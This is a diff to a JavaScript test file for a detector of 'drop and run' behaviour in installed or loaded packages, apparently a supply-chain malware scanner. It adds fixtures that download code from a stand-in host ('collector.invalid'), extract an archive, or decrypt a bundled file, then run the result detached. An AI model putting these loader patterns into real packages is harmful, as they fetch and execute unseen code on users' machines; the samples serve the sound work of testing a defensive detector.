@@ -14,6 +14,33 @@ testDetector(dropAndRun, {
           out.on("finish", () => out.close(() => spawn(target, [], { detached: true, stdio: "ignore" }).unref()));
         });`),
     ],
+    "a module with a name made up while it runs": [
+      "strong",
+      installed(`const fs = require("fs"), path = require("path"), os = require("os"), https = require("https");
+        const file = path.join(os.tmpdir(), "." + Math.random().toString(16).slice(2) + ".js");
+        https.get("https://collector.invalid/stage.js", (answer) =>
+          answer.pipe(fs.createWriteStream(file)).on("finish", () => { require(file); }));`),
+    ],
+    "a module out of an archive": [
+      "strong",
+      installed(`const fs = require("fs"), path = require("path"), { execSync } = require("child_process");
+        (async () => {
+          const folder = path.join(__dirname, ".peer");
+          fs.writeFileSync(path.join(folder, "p.tgz"), Buffer.from(await (await fetch("https://collector.invalid/p")).arrayBuffer()));
+          execSync("tar xzf p.tgz", { cwd: folder });
+          require(path.join(folder, "package", "peer"));
+        })();`),
+    ],
+    "what a call decodes": [
+      "strong",
+      loaded(`const fs = require("fs"), os = require("os"), path = require("path"), crypto = require("crypto");
+        exports.run = (key) => {
+          const cipher = crypto.createDecipheriv("aes-256-cbc", key, Buffer.alloc(16));
+          const file = path.join(os.tmpdir(), "m.js");
+          fs.writeFileSync(file, cipher.update(fs.readFileSync(__dirname + "/m.bin")));
+          require("child_process").spawn("node", [file], { detached: true, stdio: "ignore" }).unref();
+        };`),
+    ],
     "a script in a temporary folder": [
       "strong",
       installed(`const fs = require("fs"), os = require("os");
@@ -23,6 +50,11 @@ testDetector(dropAndRun, {
     ],
   },
   silent: {
+    "an archive beside modules of its own": installed(`const fs = require("fs"), path = require("path");
+      (async () => {
+        fs.writeFileSync(path.join(__dirname, "vendor", "p.tgz"), Buffer.from(await (await fetch("https://collector.invalid/p")).arrayBuffer()));
+        require(path.join(__dirname, "lib", "log"));
+      })();`),
     "a report that is written and a tool that is run": loaded(`const fs = require("fs");
       module.exports = () => { fs.writeFileSync("report.json", "{}"); require("child_process").execSync("git status"); };`),
   },
